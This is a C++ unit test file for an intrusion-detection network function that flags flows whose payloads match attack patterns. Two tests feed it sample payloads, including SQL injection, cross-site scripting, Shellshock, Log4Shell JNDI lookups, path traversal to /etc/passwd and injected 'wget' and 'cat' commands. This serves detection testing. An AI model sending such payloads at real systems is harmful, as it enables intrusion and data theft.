// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include <algorithm>
#include <set>

#include "nfs/ids/default_rules.h"
#include "nfs/testing/nf_driver.h"
#include "nfs/testing/tcp_frames.h"

namespace orrery::ids {
namespace {

using namespace orrery::testing;
using nlohmann::json;

const MetadataField kVerdict = {"verdict", 5, 2, {{"safe", 1}, {"unsafe", 2}}};
constexpr uint16_t kMask = 3 << 5;
constexpr uint16_t kSafe = 1 << 5;
constexpr uint16_t kUnsafe = 2 << 5;
constexpr uint64_t kSecond = 1'000'000'000;

std::unique_ptr<NfCore> make_ids_nf(const json& config) {
  return make_nf("ids", config, {&kVerdict, 1});
}

uint16_t verdict_of(NfCore& nf, const FrameSpec& spec, uint64_t now_ns = monotonic_ns()) {
  return run_one(nf, build_frame(spec), Direction::kForward, now_ns).metadata & kMask;
}

uint16_t verdict_of(NfCore& nf, const std::string& payload) {
  static uint16_t port = 1;
  FrameSpec spec;
  spec.src_port = port++;
  spec.payload = payload;
  return verdict_of(nf, spec);
}

std::string lower(std::string s) {
  std::ranges::transform(s, s.begin(), [](char c) { return c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c; });
  return s;
}

TEST(Ids, EqualsANaiveSearchForRandomLiterals) {
  Rng rng(1);
  // A small alphabet with bytes that mean something in an expression, so that there are hits and traps.
  static constexpr char kAlphabet[] = {'a', 'A', 'b', 'B',  '.',  '*',    '\\',  '(',
                                       '[', '^', '$', '\n', '\0', '\x80', '\xff'};
  const auto random_text = [&](size_t lo, size_t hi) {
    std::string text(lo + rng() % (hi - lo + 1), ' ');
    for (char& c : text) c = kAlphabet[rng() % std::size(kAlphabet)];
    return text;
  };
  const auto random_pattern = [&] {
    std::string text(2 + rng() % 3, ' ');
    for (char& c : text) c = kAlphabet[rng() % 13];  // JSON strings hold Unicode: bytes of it are tested elsewhere
    return text;
  };
  for (size_t rule_count : {1, 5, 100}) {
    json config = {{"sticky", false}, {"rules", json::array()}};
    std::vector<IdsRule> rules;
    for (size_t i = 0; i < rule_count; ++i) {
      rules.push_back({"r" + std::to_string(i), random_pattern(), false, rng() % 2 == 0});
      config["rules"].push_back({{"id", rules[i].id}, {"pattern", rules[i].pattern}, {"nocase", rules[i].nocase}});
    }
    const auto nf = make_ids_nf(config);
    std::vector<uint64_t> hits(rule_count);
    uint64_t unsafe_count = 0;
    for (int i = 0; i < 3000; ++i) {
      FrameSpec spec = random_spec(rng);
      spec.payload = random_text(0, 60);
      bool unsafe = false;
      for (size_t r = 0; r < rule_count; ++r) {
        const bool found = rules[r].nocase ? lower(spec.payload).find(lower(rules[r].pattern)) != std::string::npos
                                           : spec.payload.find(rules[r].pattern) != std::string::npos;
        hits[r] += found;
        unsafe |= found;
      }
      unsafe_count += unsafe;
      ASSERT_EQ(verdict_of(*nf, spec), unsafe ? kUnsafe : kSafe);
    }
    EXPECT_GT(unsafe_count, 0u);
    const json state = nf->state(1000);
    EXPECT_EQ(state["unsafe"], unsafe_count);
    EXPECT_EQ(state["alert_count"], unsafe_count);
    for (size_t r = 0; r < rule_count; ++r) ASSERT_EQ(state["rules"][r]["hits"], hits[r]);
  }
}

TEST(Ids, FindsBytesOfUnicode) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "u"}, {"pattern", "größe"}}}}});
  EXPECT_EQ(verdict_of(*nf, "die größe"), kUnsafe);
  EXPECT_EQ(verdict_of(*nf, "die grosse"), kSafe);
}

TEST(Ids, BuiltInRulesFindAttacksAndLetOrdinaryTrafficBe) {
  const auto nf = make_ids_nf(json::object());
  for (const char* attack :
       {"GET /../../boot.ini HTTP/1.1", "GET /x?f=/etc/passwd", "id=1 UNION SELECT password", "id=1+union+all+select+1",
        "id=1/**/union/**/select/**/x", "name=' or 1=1 --", "name=%27+OR+1%3D1", "q=1; DROP TABLE users",
        "<SCRIPT>alert(1)", "q=%3Cscript%3E", "<img src=x onerror = alert(1)>", "User-Agent: () { :;}; /bin/bash -c id",
        "X: ${jndi:ldap://evil/a}", "h=1;cat /etc/hosts", "h=1|wget http://x", "f=php://filter/convert",
        "GET /CMD.EXE"})
    EXPECT_EQ(verdict_of(*nf, attack), kUnsafe) << attack;
  for (const char* benign :
       {"GET / HTTP/1.1\r\nHost: 10.0.0.1\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", "",
        "HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nContent-type: text/html; charset=utf-8\r\n\r\n",
        "<!DOCTYPE html><html><body>Trade union members select a chair.</body></html>"})
    EXPECT_EQ(verdict_of(*nf, benign), kSafe) << benign;
}

TEST(Ids, BuiltInRulesAreThoseOfTheDescriptor) {
  const json listed = descriptor_of("ids")["default_config"]["rules"];
  const auto rules = default_ids_rules();
  ASSERT_EQ(listed.size(), rules.size());
  for (size_t i = 0; i < rules.size(); ++i) {
    const json expected = {{"id", rules[i].id},
                           {"pattern", rules[i].pattern},
                           {"kind", rules[i].regex ? "regex" : "literal"},
                           {"nocase", rules[i].nocase}};
    EXPECT_EQ(listed[i], expected);
  }
}

TEST(Ids, EachBuiltInRuleIsHitByItsExample) {
  const auto nf = make_ids_nf(json::object());
  for (const char* text : {"../../", "/etc/passwd", "union select", "' or 1=1", "; drop table x", "<script>",
                           "onerror=", "() { :; };", "${jndi:rmi://", "| bash ", "php://input", "cmd.exe"})
    verdict_of(*nf, text);
  const json state = nf->state(100);
  for (const json& rule : state["rules"]) EXPECT_EQ(rule["hits"], 1) << rule["id"];
}

TEST(Ids, AFlowStaysUnsafeUntilItIsIdle) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}, {"idle_timeout_s", 10}});
  const uint64_t start = monotonic_ns();
  FrameSpec spec;
  FrameSpec other = spec;
  other.src_port++;
  EXPECT_EQ(verdict_of(*nf, spec, start), kSafe);
  spec.payload = "an ATTACK";
  EXPECT_EQ(verdict_of(*nf, spec, start), kUnsafe);
  spec.payload = "nothing";
  EXPECT_EQ(verdict_of(*nf, spec, start + 9 * kSecond), kUnsafe);
  EXPECT_EQ(verdict_of(*nf, other, start + 9 * kSecond), kSafe);
  EXPECT_EQ(verdict_of(*nf, spec, start + 18 * kSecond), kUnsafe);
  EXPECT_EQ(verdict_of(*nf, spec, start + 29 * kSecond), kSafe);

  const auto loose = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}, {"sticky", false}});
  spec.payload = "attack";
  EXPECT_EQ(verdict_of(*loose, spec), kUnsafe);
  spec.payload = "nothing";
  EXPECT_EQ(verdict_of(*loose, spec), kSafe);
}

uint16_t verdict_of_segment(NfCore& nf, const FrameSpec& spec, uint8_t flags, uint32_t sequence, uint64_t now_ns) {
  return run_one(nf, tcp_segment(spec, flags, sequence), Direction::kForward, now_ns).metadata & kMask;
}

// Whatever way a connection ends, the next one on its 5-tuple is judged by what it carries itself.
TEST(Ids, AMarkEndsWithItsConnectionHoweverItsPortIsUsedAgain) {
  Rng rng(4);
  const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}});
  uint64_t now = monotonic_ns(), unsafe_connections = 0;
  uint32_t clock = 0;  // of initial sequence numbers (RFC 6528 3)
  for (int round = 0; round < 3000; ++round) {
    FrameSpec spec;
    spec.src_port = static_cast<uint16_t>(1000 + rng() % 3);
    uint32_t sequence = clock += 200'000 + static_cast<uint32_t>(rng() % 10'000'000);
    bool unsafe = false;
    const auto send = [&](uint8_t flags, const std::string& payload) {
      spec.payload = payload;
      unsafe |= payload.find("attack") != std::string::npos;
      now += 1'000'000;
      ASSERT_EQ(verdict_of_segment(*nf, spec, flags, sequence, now), unsafe ? kUnsafe : kSafe) << "round " << round;
      sequence += static_cast<uint32_t>(payload.size());
      if ((flags & (kTcpSyn | kTcpFin)) != 0) ++sequence;
    };
    send(kTcpSyn, "");
    for (uint64_t n = rng() % 4; n > 0; --n) send(kTcpAck, rng() % 3 == 0 ? "an attack" : "a request");
    switch (rng() % 3) {
      case 0:
        send(kTcpFin | kTcpAck, rng() % 2 == 0 ? "" : "attack");
        send(kTcpAck, "");
        break;
      case 1:
        send(kTcpRst, "");
        break;
      default:  // the end is lost, or takes another way
        break;
    }
    unsafe_connections += unsafe;
  }
  EXPECT_GT(unsafe_connections, 500u);
}

TEST(Ids, NoSegmentThatTheReceiverIgnoresEndsAMark) {
  const uint64_t now = monotonic_ns();
  for (const uint32_t sequence : {5000u, 5005u, 5007u, 5006u + 60'000u, 0xffffff00u, 1'000'000u})
    for (const uint8_t flags : {kTcpSyn, kTcpRst, kTcpFin}) {
      if (flags == kTcpSyn && sequence == 1'000'000) continue;  // begins another connection
      const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}});
      FrameSpec spec;
      spec.payload = "attack";
      EXPECT_EQ(verdict_of_segment(*nf, spec, kTcpAck, 5000, now), kUnsafe);
      spec.payload = "";
      for (const uint64_t later : {uint64_t{0}, 11 * kSecond}) {
        EXPECT_EQ(verdict_of_segment(*nf, spec, flags, sequence, now + later), kUnsafe) << sequence;
        EXPECT_EQ(verdict_of_segment(*nf, spec, kTcpAck, 5006, now + later), kUnsafe) << sequence << ", " << int{flags};
      }
    }
}

TEST(Ids, AClosedConnectionIsForgottenSoon) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}, {"max_flows", 2}});
  const uint64_t now = monotonic_ns();
  FrameSpec open, closed;
  open.payload = closed.payload = "attack";
  closed.src_port = 7;
  EXPECT_EQ(verdict_of_segment(*nf, open, kTcpAck, 1, now), kUnsafe);
  EXPECT_EQ(verdict_of_segment(*nf, closed, kTcpAck | kTcpFin, 1, now + 1), kUnsafe);
  closed.payload = "";
  EXPECT_EQ(verdict_of_segment(*nf, closed, kTcpAck, 8, now + 9 * kSecond), kUnsafe) << "what follows a FIN";
  EXPECT_EQ(verdict_of_segment(*nf, closed, kTcpAck, 8, now + 20 * kSecond), kSafe);
  // The table is full: the closed connection makes room, though it is younger.
  closed.payload = "attack";
  EXPECT_EQ(verdict_of_segment(*nf, closed, kTcpAck | kTcpFin, 9, now + 21 * kSecond), kUnsafe);
  FrameSpec third = closed;
  third.src_port = 8;
  EXPECT_EQ(verdict_of_segment(*nf, third, kTcpAck, 1, now + 22 * kSecond), kUnsafe);
  open.payload = "";
  EXPECT_EQ(verdict_of_segment(*nf, open, kTcpAck, 7, now + 23 * kSecond), kUnsafe);
}

TEST(Ids, AMovedMarkEndsWithItsConnectionToo) {
  const json config = {{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}};
  const uint64_t now = monotonic_ns();
  const auto one = make_ids_nf(config);
  FrameSpec spec;
  spec.payload = "attack";
  verdict_of_segment(*one, spec, kTcpAck, 5000, now);
  spec.payload = "";
  for (const uint8_t flags : {kTcpSyn, kTcpRst}) {
    const auto two = make_ids_nf(config);
    two->import_state(one->export_state());
    EXPECT_EQ(verdict_of_segment(*two, spec, flags, 5006, monotonic_ns()), kUnsafe);
    EXPECT_EQ(verdict_of_segment(*two, spec, kTcpSyn, 900'000, monotonic_ns()), kSafe);
  }
}

TEST(Ids, AHitCountsForLaterPacketsOfTheSameBatch) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}});
  FrameSpec bad;
  bad.payload = "attack";
  const auto outcomes = run(*nf, {build_frame({}), build_frame(bad), build_frame({})});
  EXPECT_EQ(outcomes[0].metadata & kMask, kSafe);
  EXPECT_EQ(outcomes[1].metadata & kMask, kUnsafe);
  EXPECT_EQ(outcomes[2].metadata & kMask, kUnsafe);
}

TEST(Ids, ForgetsTheFlowIdleLongestWhenTheTableIsFull) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}, {"max_flows", 2}});
  const uint64_t start = monotonic_ns();
  for (uint16_t port = 1; port <= 3; ++port) {
    FrameSpec spec;
    spec.src_port = port;
    spec.payload = "attack";
    verdict_of(*nf, spec, start + port);
  }
  for (uint16_t port = 1; port <= 3; ++port) {
    FrameSpec spec;
    spec.src_port = port;
    EXPECT_EQ(verdict_of(*nf, spec, start + 10), port == 1 ? kSafe : kUnsafe);
  }
  EXPECT_EQ(nf->state(1)["flows_evicted"], 1);
}

TEST(Ids, WritesItsOwnBitsOnly) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "x"}, {"pattern", "GET"}}}}});
  for (uint16_t before : {uint16_t{0}, uint16_t{0xffff}, uint16_t{0xa5c3}}) {
    const Outcome unsafe = run(*nf, {build_frame({})}, Direction::kForward, monotonic_ns(), before)[0];
    EXPECT_EQ(unsafe.metadata, (before & ~kMask) | kUnsafe);
    const Outcome safe = run(*nf, {arp_frame()}, Direction::kForward, monotonic_ns(), before)[0];
    EXPECT_EQ(safe.metadata, (before & ~kMask) | kSafe);
    const Outcome malformed = run(*nf, {Frame(3)}, Direction::kForward, monotonic_ns(), before)[0];
    EXPECT_EQ(malformed.metadata, (before & ~kMask) | kUnsafe);
  }
  const auto without = make_nf("ids", json::object());
  EXPECT_EQ(run(*without, {build_frame({})}, Direction::kForward, monotonic_ns(), 0xbeef)[0].metadata, 0xbeef);
}

TEST(Ids, RefusesMetadataItCannotWrite) {
  for (const MetadataField& field :
       {MetadataField{"verdict", 15, 2, {{"safe", 1}, {"unsafe", 2}}},
        MetadataField{"verdict", 0, 1, {{"safe", 1}, {"unsafe", 2}}}, MetadataField{"verdict", 0, 2, {{"safe", 1}}},
        MetadataField{"verdict", 0, 2, {{"safe", 0}, {"unsafe", 1}}}})
    EXPECT_THROW(make_nf("ids", json::object(), {&field, 1}), ConfigError);
  const MetadataField whole = {"verdict", 0, 16, {{"safe", 1}, {"unsafe", 0xffff}}};
  EXPECT_NO_THROW(make_nf("ids", json::object(), {&whole, 1}));
}

TEST(Ids, PointsToABadRule) {
  const auto error = [](const json& rule) {
    return config_error("ids", {{"rules",
                                 {{{"id", "a"}, {"pattern", "ok"}},
                                  {{"id", "b"}, {"pattern", "ok"}},
                                  {{"id", "c"}, {"pattern", "ok"}},
                                  rule}}});
  };
  for (const char* pattern : {"(", "[a", "a{2", "*a", "(?=a)b", R"((a)\1)", "a*", "\xc3"})
    if (std::string(pattern) != "a{2" && std::string(pattern) != "\xc3") {
      EXPECT_EQ(error({{"id", "x"}, {"pattern", pattern}, {"kind", "regex"}}), "/rules/3/pattern") << pattern;
    }
  EXPECT_EQ(error({{"id", "x"}, {"pattern", ""}}), "/rules/3/pattern");
  EXPECT_EQ(error({{"id", "x"}, {"pattern", std::string(1001, 'a')}}), "/rules/3/pattern");
  EXPECT_EQ(error({{"id", "x"}, {"pattern", std::string("a\0b", 3)}, {"kind", "regex"}}), "/rules/3/pattern");
  EXPECT_EQ(error({{"id", "x"}}), "/rules/3/pattern");
  EXPECT_EQ(error({{"pattern", "x"}}), "/rules/3/id");
  EXPECT_EQ(error({{"id", "b"}, {"pattern", "x"}}), "/rules/3/id");
  EXPECT_EQ(error({{"id", std::string(41, 'x')}, {"pattern", "x"}}), "/rules/3/id");
  EXPECT_EQ(error({{"id", "x"}, {"pattern", "x"}, {"kind", "glob"}}), "/rules/3/kind");
  EXPECT_EQ(error({{"id", "x"}, {"pattern", "x"}, {"nocase", 1}}), "/rules/3/nocase");
  EXPECT_EQ(error({{"id", "x"}, {"pattern", "("}}), "none") << "a literal";
}

TEST(Ids, KeepsTheLastAlerts) {
  const auto nf = make_ids_nf({{"rules", {{{"id", "low"}, {"pattern", "tack"}}, {{"id", "high"}, {"pattern", "at"}}}}});
  for (uint16_t port = 1; port <= 100; ++port) {
    FrameSpec spec;
    spec.src_port = port;
    spec.payload = "attack";
    verdict_of(*nf, spec);
  }
  const json state = nf->state(1000);
  EXPECT_EQ(state["alert_count"], 100);
  ASSERT_EQ(state["alerts"].size(), 64u);
  for (size_t i = 0; i < 64; ++i) {
    EXPECT_EQ(state["alerts"][i]["src_port"], 100 - i) << "newest first";
    EXPECT_EQ(state["alerts"][i]["rule"], "low") << "the first rule that hit";
    EXPECT_EQ(state["alerts"][i]["src"], "10.0.0.1");
  }
  EXPECT_EQ(nf->state(5)["alerts"].size(), 5u);
  EXPECT_EQ(nf->state(1)["rules"].size(), 1u);
}

TEST(Ids, ReconfigurationKeepsFlowsAlertsAndHitsOfUnchangedRules) {
  const json x = {{"id", "x"}, {"pattern", "attack"}};
  const auto nf = make_ids_nf({{"rules", {x}}});
  FrameSpec spec;
  spec.payload = "attack";
  verdict_of(*nf, spec);
  nf->configure({{"rules", {{{"id", "new"}, {"pattern", "other"}}, x}}}, {&kVerdict, 1});
  spec.payload = "quiet";
  EXPECT_EQ(verdict_of(*nf, spec), kUnsafe);
  const json state = nf->state(10);
  EXPECT_EQ(state["rules"][0]["hits"], 0);
  EXPECT_EQ(state["rules"][1]["hits"], 1);
  EXPECT_EQ(state["alerts"][0]["rule"], "x");
  EXPECT_THROW(nf->configure({{"rules", {{{"id", "bad"}, {"pattern", "("}, {"kind", "regex"}}}}}), ConfigError);
  EXPECT_EQ(verdict_of(*nf, "another attack"), kUnsafe);
  nf->configure({{"rules", {x}}, {"sticky", false}}, {&kVerdict, 1});
  EXPECT_EQ(verdict_of(*nf, spec), kSafe);
}

TEST(Ids, UnsafeFlowsMoveToAnotherInstance) {
  const json config = {{"rules", {{{"id", "x"}, {"pattern", "attack"}}}}};
  const auto one = make_ids_nf(config);
  const auto two = make_ids_nf(config);
  FrameSpec spec;
  spec.payload = "attack";
  verdict_of(*one, spec);
  two->import_state(one->export_state());
  spec.payload = "quiet";
  EXPECT_EQ(verdict_of(*two, spec), kUnsafe);
  EXPECT_EQ(two->state(1)["unsafe_flows"], 1);
}

}  // namespace
}  // namespace orrery::ids
